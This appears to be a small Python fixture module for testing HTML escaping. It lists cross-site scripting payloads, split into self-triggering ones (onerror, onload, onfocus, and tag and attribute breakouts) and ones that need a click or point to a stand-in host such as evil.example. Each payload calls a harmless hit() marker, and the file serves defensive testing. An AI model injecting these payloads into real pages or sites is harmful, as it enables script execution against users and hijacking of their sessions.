"""Texts that are no texts where somebody forgot to escape them; those that can, call `hit`."""

ALIVE = (  # run by themselves somewhere in a page
    "'\"></title><img src=x onerror=hit()>",
    "<script>hit()</script>",
    '"><svg onload=hit()>',
    "</textarea><script>hit()</script>",
    "</script><script>hit()</script>",
    '" autofocus onfocus=hit() x="',
    "' autofocus onfocus=hit() x='",
    "<details open ontoggle=hit()>",
    "<iframe src=javascript:parent.hit()>",
    "<video><source onerror=hit()>",
    "<!--><img src=x onerror=hit()>",
    "<svg><style><img src=x onerror=hit()>",
    "<input autofocus onfocus=hit()>",
    "';hit();'",
)
ASLEEP = (  # want a click, a moment, or somebody else's server
    "<a href=javascript:hit()>x</a>",
    "<base href=//evil.example>",
    "<form action=//evil.example>",
    "<meta http-equiv=refresh content=99>",
    "<x hx-get=//evil.eg hx-trigger=load>",
    "<style>*{display:none}</style>",
)
PAYLOADS = (*ALIVE, *ASLEEP)
